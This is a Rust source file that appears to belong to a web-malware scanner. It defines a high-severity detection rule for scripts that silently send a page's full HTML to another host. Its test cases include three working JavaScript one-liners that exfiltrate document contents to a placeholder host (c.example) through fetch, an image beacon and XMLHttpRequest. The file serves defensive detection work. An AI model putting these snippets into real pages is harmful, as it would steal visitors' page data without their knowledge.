//! `page-sent-unasked`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "page-sent-unasked",
    description: "The script sends the whole page as the visitor sees it to another host immediately.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::SentAbroad])],
    within: 0,
    only_if: Some(sends),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"fetch('https://c.example/d',{method:'POST',body:document.documentElement.outerHTML})"#,
            r#"new Image().src='https://c.example/?h='+btoa(document.body.innerHTML)"#,
            r#"var d='url='+encodeURIComponent(document.URL)+'&dom='+encodeURIComponent(document.documentElement.innerHTML);var x=new XMLHttpRequest();x.open('POST','//c.example/c');x.send(d)"#,
        ],
        without: &[
            r#"fetch('/d',{method:'POST',body:document.documentElement.outerHTML})"#,
            r#"report.onclick=()=>fetch('https://c.example/d',{method:'POST',body:document.documentElement.outerHTML})"#,
            r#"var n=document.body.innerHTML.length;new Image().src='https://c.example/?n='+n"#,
            r#"document.body.innerHTML='';new Image().src='https://c.example/?n='+n"#,
        ],
    },
};

fn sends(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 40);
    // Asked of most places in vain, and known of their neighbours.
    if !near.has_word(&["outerHTML", "innerHTML"]) {
        return false;
    }
    near.words(&["outerHTML", "innerHTML"]).any(|at| {
        let whole = matches!(near.before(at, 1), "documentElement" | "body")
            && near.before(at, 2) == "document"
            && [b')', b';', b'}', b','].iter().any(|op| near.is(at + 1, *op));
        // Handed to what encodes or sends it, or put beside other data: not looked into.
        let before = at.wrapping_sub(3);
        let handed = near.is(before, b':')
            || near.is(before, b'(')
                && matches!(
                    near.before(before, 1),
                    "encodeURIComponent" | "escape" | "btoa" | "send" | "encodeURI"
                );
        whole && handed && near.runs_unasked(at)
    })
}
